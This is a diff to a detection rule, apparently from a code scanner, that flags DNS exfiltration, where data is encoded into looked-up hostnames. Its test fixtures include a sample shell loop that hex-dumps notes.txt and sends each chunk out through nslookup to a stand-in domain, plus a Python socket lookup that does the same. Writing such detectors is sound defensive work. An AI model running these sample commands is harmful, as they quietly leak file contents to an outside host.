@@ -1,4 +1,6 @@
 /** EX-04: A DNS lookup carries data in the name that is looked up. */
+import { inFile } from '../../engine/example.ts';
+import { nameVariables } from '../../vocabulary/exfiltration/ex-04-data-in-dns.ts';
 import {
   blank,
   chars,
@@ -51,29 +53,10 @@ export const dataInDns: PatternRule = {
         exactPattern(
           '$({)',
           oneOf(
-            'DOMAIN',
-            'HOST',
-            'HOSTNAME',
-            'ZONE',
-            'NAME',
-            'SUBDOMAIN',
-            'REGION',
-            'SERVICE',
-            'TENANT',
+            ...nameVariables,
             stem('APP', 10),
-            'NAMESPACE',
-            'SITE',
             stem('ACCOUNT', 10),
             stem('STORAGE', 20),
-            'ENV',
-            'record',
-            'domain',
-            'host',
-            'sub',
-            'name',
-            'd',
-            's',
-            'h',
             seq(
               letters(1, 20),
               maybe(code('_')),
@@ -83,6 +66,8 @@ export const dataInDns: PatternRule = {
           edge,
         ),
       ],
+      catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
+      spares: [inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com')],
     }),
     row('the same from a program', {
       within: 'line',
@@ -106,6 +91,8 @@ export const dataInDns: PatternRule = {
         ),
         gap(160),
       ),
+      catches: [inFile('scripts/tool.py', 'import socket', 'socket.gethostbyname(f"{name}.drop.invalid")')],
+      spares: [inFile('scripts/tool.py', 'import socket', 'socket.gethostbyname("www.acme.example")')],
     }),
   ],
 };
